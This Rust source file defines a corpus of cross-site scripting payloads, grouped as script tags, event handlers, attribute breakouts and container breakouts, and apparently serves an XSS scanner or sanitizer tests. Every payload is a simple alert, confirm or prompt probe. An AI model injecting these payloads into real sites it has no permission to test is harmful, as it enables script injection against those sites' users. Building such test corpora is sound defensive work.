pub struct PayloadCorpus;

impl PayloadCorpus {
    const SCRIPT_TAGS: &'static [&'static str] = &[
        "<script>alert(1)</script>",
        "<script>confirm(1)</script>",
        "<script>prompt(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=data:,alert(1)></script>",
    ];

    const EVENT_HANDLERS: &'static [&'static str] = &[
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=confirm(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\">",
    ];

    const ATTRIBUTE_BREAKOUTS: &'static [&'static str] = &[
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'\"><svg/onload=alert(1)>",
        "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
    ];

    const CONTAINER_BREAKOUTS: &'static [&'static str] = &[
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</noscript><img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>",
    ];

    pub fn script_tags() -> Vec<String> {
        Self::to_vec(Self::SCRIPT_TAGS)
    }

    pub fn event_handlers() -> Vec<String> {
        Self::to_vec(Self::EVENT_HANDLERS)
    }

    pub fn attribute_breakouts() -> Vec<String> {
        Self::to_vec(Self::ATTRIBUTE_BREAKOUTS)
    }

    pub fn container_breakouts() -> Vec<String> {
        Self::to_vec(Self::CONTAINER_BREAKOUTS)
    }

    pub fn all() -> Vec<String> {
        let mut all = Vec::new();
        all.extend(Self::script_tags());
        all.extend(Self::event_handlers());
        all.extend(Self::attribute_breakouts());
        all.extend(Self::container_breakouts());
        all
    }

    fn to_vec(payloads: &[&str]) -> Vec<String> {
        payloads.iter().map(|p| p.to_string()).collect()
    }
}
